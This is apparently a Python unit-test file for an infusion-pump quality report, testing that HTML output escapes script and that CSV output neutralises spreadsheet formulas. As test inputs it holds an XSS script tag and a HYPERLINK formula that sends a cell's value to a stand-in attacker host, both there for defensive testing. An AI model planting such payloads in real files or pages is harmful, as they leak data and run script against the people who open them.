"""The CQI report: self-contained HTML that escapes every text, and CSV with every section."""

from __future__ import annotations

import csv
import io

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from smartpump.analytics import report
from smartpump.analytics.frames import from_dicts
from tests.unit.analytics.handmade import EVENTS, SOFT_12, checked, frame, started

EVIL = "<script>alert(1)</script>"


def test_html_escapes_a_drug_name_carrying_script() -> None:
    events = [*EVENTS, checked("P3", 1, 0, "ICU", EVIL, "soft", SOFT_12), started("P3", 2, 5, EVIL)]
    html = report.to_html(report.sections(from_dicts(events), 2), title=f"CQI {EVIL}", synthetic=True)
    assert "<script" not in html
    assert "&lt;script&gt;" in html


def test_html_is_self_contained_and_labelled_synthetic() -> None:
    html = report.to_html(report.sections(frame(), 2), title="CQI", synthetic=True)
    assert "<svg" in html and report.SYNTHETIC_BANNER in html
    assert "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "") and "https://" not in html


def test_csv_has_every_section() -> None:
    parts = report.sections(frame(), 2)
    text = report.to_csv(parts)
    assert [line[2:] for line in text.splitlines() if line.startswith("# ")] == [p.title for p in parts]
    assert "ICU,3,3,0,1.0,true" in text


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def _cells(text: str) -> list[str]:
    """Every cell of every table (its header included; titles and blank lines between tables left out)."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows if len(row) > 1 for cell in row]


def test_csv_writes_telemetry_text_as_text_never_as_a_formula() -> None:
    # Care area and entry names reach the report from pump events: anyone on the link chose them.
    events = [*EVENTS, checked("P3", 1, 0, FORMULA, "+SUM(1)", "soft", SOFT_12), started("P3", 2, 5, "@cmd")]
    cells = _cells(report.to_csv(report.sections(from_dicts(events), 2)))
    assert "'" + FORMULA in cells and "'+SUM(1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


@given(st.lists(st.text(max_size=12), min_size=1, max_size=8), st.integers(-5, 5))
def test_no_text_cell_starts_a_formula_and_the_text_is_kept(texts: list[str], number: int) -> None:
    table = pl.DataFrame({"name": texts, "count": [number] * len(texts)})
    cells = _cells(report.to_csv([report.Section("t", table, None)]))
    names = cells[2::2]
    assert names == [("'" + t if t[:1] in ("=", "+", "-", "@", "\t", "\r") else t) for t in texts]
